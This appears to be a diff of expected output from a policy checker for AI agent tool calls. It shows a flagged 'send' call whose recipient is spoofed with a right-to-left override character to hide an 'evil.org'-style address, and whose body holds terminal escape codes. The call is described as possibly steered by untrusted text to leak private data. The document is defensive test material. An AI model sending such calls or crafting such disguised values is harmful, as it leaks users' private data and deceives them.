@@ -281,6 +281,9 @@ The model wants to call send
       \"to\": \"bob\\u202egro.live\",
       \"body\": \"\\u001b[2J\\u007f\"
     }
+This call of send sends to \"bob\\u{202e}gro.live\". Text that is untrusted may have led to this call, and may have chosen the recipient (`to`) and the \
+content (`body`). It would disclose what is private, by the recipient (`to`), the content (`body`) and the fact that it is made.
+  \"bob\\u{202e}gro.live\" is in no text that this question may show.
 It carries untrusted, private. Why you are asked:
   - decision, arguments.to, arguments.body carry untrusted, private, and may carry at most trusted, public
       │ p.flow:9  require trusted, public if:
